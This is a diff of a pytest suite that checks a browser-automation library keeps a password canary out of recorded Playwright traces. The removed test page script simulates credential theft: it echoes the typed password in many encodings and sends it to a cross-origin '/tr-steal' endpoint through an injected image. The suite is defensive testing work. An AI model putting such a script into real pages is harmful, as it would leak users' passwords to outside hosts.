@@ -11,91 +11,23 @@ records) finds every one of those forms in the unzipped trace; ours finds none.
 
 from __future__ import annotations
 
-import base64
-import contextlib
-import gzip
-import html
+import asyncio
 import json
-import unicodedata
-import urllib.parse
 import zipfile
 from pathlib import Path
 
 import pytest
-from _server import Request, Response
+from _canary import CANARY, ENCODINGS, echo_site, found_in, plain_fill_trace
+from playwright._impl._driver import compute_driver_executable, get_driver_env
 
-from stagehand_py import Action, SecretInTraceError, Stagehand
+from stagehand_py import Action, AmbiguousSelectorError, SecretInTraceError, Stagehand
 from stagehand_py.browser._recording import is_recording
-
-CANARY = "Zq&canary 7!ë"
-UTF8 = CANARY.encode()
-#: Every form the page (or the server) writes the canary in, as the trace would hold it.
-ENCODINGS = {
-    "raw": CANARY,
-    "upper": CANARY.upper(),
-    "lower": CANARY.lower(),
-    "nfd": unicodedata.normalize("NFD", CANARY),
-    "uri-component": urllib.parse.quote(CANARY, safe="-_.!~*'()"),
-    "form-urlencoded": urllib.parse.quote_plus(CANARY, safe="-_.*"),
-    "base64": base64.b64encode(UTF8).decode(),
-    "base64url": base64.urlsafe_b64encode(UTF8).decode().rstrip("="),
-    "html": html.escape(CANARY),
-    "json-ascii": json.dumps(CANARY)[1:-1],
-}
-
-PAGE = """<!doctype html><title>Sign in</title>
-<form method=post action=/tr-posted><label>Password <input id=pw name=pw></label><button id=go>Sign in</button></form>
-<p id=echo></p><p id=nfd></p><div id=pics></div>
-<script>
-document.getElementById('pw').addEventListener('input', async (e) => {
-  const v = e.target.value;
-  const b64 = btoa(unescape(encodeURIComponent(v)));
-  console.log('typed', v, b64);
-  document.getElementById('echo').textContent = v.toUpperCase() + ' / ' + v.toLowerCase();
-  document.getElementById('echo').setAttribute('data-v', v);
-  document.getElementById('nfd').textContent = v.normalize('NFD');
-  history.replaceState(null, '', location.pathname + '?e=' + encodeURIComponent(v));
-  const url = b64.replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');
-  document.getElementById('pics').innerHTML = '<img src="CROSS/tr-steal?q=' + encodeURIComponent(v) + '">' +
-    '<img src="/tr-bin?v=' + encodeURIComponent(v) + '&u=' + url + '">';
-  const r = await fetch('/tr-api?q=' + encodeURIComponent(v), {method: 'POST', body: JSON.stringify({v}),
-                                                                 headers: {'X-Echo': b64}});
-  await r.text();
-  window.echoed = true;
-});
-</script>"""
-
-
-def _api(req: Request) -> Response:
-    body = json.dumps({"echo": req.query.get("q", "")}).encode()  # ASCII-escaped JSON, gzipped on the wire
-    return Response(200, gzip.compress(body), "application/json", {"Content-Encoding": "gzip"})
-
-
-def _binary(req: Request) -> Response:
-    return Response(200, b"\x89PNG\r\n\x1a\n\x00\xff\xfe" + req.query.get("v", "").encode() + b"\x00\x80", "image/png")
-
-
-def _posted(req: Request) -> Response:
-    value = urllib.parse.parse_qs(req.body.decode()).get("pw", [""])[0]
-    return Response.html(f"<title>Welcome</title><p>Signed in as {html.escape(value)}</p>")
 
 
 @pytest.fixture
 def hostile_site(server, cross_server):
-    routes = [server.route("/tr-page", lambda req: Response.html(PAGE.replace("CROSS", cross_server.origin))),
-              server.route("/tr-api", _api), server.route("/tr-bin", _binary), server.route("/tr-posted", _posted),
-              cross_server.route("/tr-steal", lambda req: Response(200, b"", "image/gif"))]
-    with contextlib.ExitStack() as stack:
-        for route in routes:
-            stack.enter_context(route)
-        yield server.url("tr-page")
-
-
-def found_in(zip_path: Path) -> dict[str, int]:
-    """How often each encoding of the canary occurs across every entry of the unzipped trace."""
-    with zipfile.ZipFile(zip_path) as archive:
-        blobs = [archive.read(name) for name in archive.namelist()]
-    return {name: sum(blob.count(form.encode()) for blob in blobs) for name, form in ENCODINGS.items()}
+    with echo_site(server, cross_server) as url:
+        yield url
 
 
 def titles_in(zip_path: Path) -> list[str]:
@@ -114,20 +46,12 @@ async def _sign_in(sh: Stagehand, url: str, **variables: str) -> None:
     await sh.act(FILL, variables=variables or {"pw": CANARY})
     await sh.page.wait_for_function("window.echoed === true")
     await sh.act(SUBMIT)
-    await sh.page.wait_for_load_state()
+    await sh.page.get_by_text("Signed in as").wait_for()  # the answer to the post is in
 
 
 async def test_control_a_plain_playwright_trace_keeps_the_canary_in_every_form(context, hostile_site, tmp_path) -> None:
     """The control: a trace the user records of a plain Playwright fill holds every encoding."""
-    page = await context.new_page()
-    await context.tracing.start(screenshots=True, snapshots=True)
-    await page.goto(hostile_site)
-    await page.fill("#pw", CANARY)
-    await page.wait_for_function("window.echoed === true")
-    await page.click("#go")
-    await page.wait_for_load_state()
-    await context.tracing.stop(path=tmp_path / "control.zip")
-    counts = found_in(tmp_path / "control.zip")
+    counts = found_in(await plain_fill_trace(context, hostile_site, tmp_path / "control.zip"))
     assert all(counts.values()), f"the page did not put these forms into the trace: {counts}"
 
 
@@ -203,9 +127,11 @@ async def test_retain_on_failure_keeps_the_trace_of_a_failed_call_only(new_stage
     await sh.close()
     assert sh.trace_path is None and not dropped.exists()
     sh = await new_stagehand(trace="retain-on-failure", trace_path=kept)
-    await sh.page.set_content("<button>Go</button>")
-    with pytest.raises(Exception, match="matched nothing"):
-        await sh.act(Action(selector="xpath=/html/body/a", method="click"), timeout=0.5)
+    # Two elements for one selector fail the call at once, whatever the machine's load (a selector
+    # that matches nothing is polled for until a deadline: a race with the clock).
+    await sh.page.set_content("<button>Go</button><button>Go</button>")
+    with pytest.raises(AmbiguousSelectorError, match="matches 2 elements"):
+        await sh.act(Action(selector="xpath=/html/body/button", method="click"))
     await sh.close()
     assert sh.trace_path == kept and "act: click" in " ".join(titles_in(kept))
 
@@ -219,3 +145,32 @@ def test_playwright_still_has_the_tracing_state_we_read() -> None:
     source = Tracing.__init__.__code__.co_names + Tracing._start_collecting_stacks.__code__.co_names
     assert "_is_tracing" in source and "_is_tracing" in Tracing._reset_stack_counter.__code__.co_names
     assert tracing is not None
+
+
+async def test_playwrights_own_trace_viewer_opens_our_trace_and_lists_our_verbs(context, browser, hostile_site,
+                                                                                tmp_path) -> None:
+    """``playwright show-trace`` (its server, the page opened in the session's Chromium) loads the
+    zip we rewrote and lists our verbs as its steps."""
+    path = tmp_path / "trace.zip"
+    async with Stagehand(await context.new_page(), trace="on", trace_path=path) as sh:
+        await sh.page.goto(hostile_site)
+        await sh.act(FILL, variables={"pw": CANARY})
+    node, cli = compute_driver_executable()
+    server = await asyncio.create_subprocess_exec(node, cli, "show-trace", "-h", "127.0.0.1", "-p", "0", str(path),
+                                                  stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
+                                                  env={**get_driver_env(), "BROWSER": "true"})  # serve only, open nothing
+    try:
+        address = ""
+        while "http://" not in address:
+            address = (await asyncio.wait_for(server.stdout.readline(), 60)).decode()
+        viewer = await browser.new_page()
+        try:
+            await viewer.goto(address.split("Listening on ", 1)[-1].strip())
+            await viewer.get_by_text('act: fill "%pw%" "textbox: Password" [0-3]').wait_for(timeout=60_000)
+            listed = await viewer.locator(".tree-view-entry").all_inner_texts()
+        finally:
+            await viewer.close()
+    finally:
+        server.terminate()
+        await server.wait()
+    assert any(entry.startswith('act: fill "%pw%"') for entry in listed) and not any(CANARY in e for e in listed)
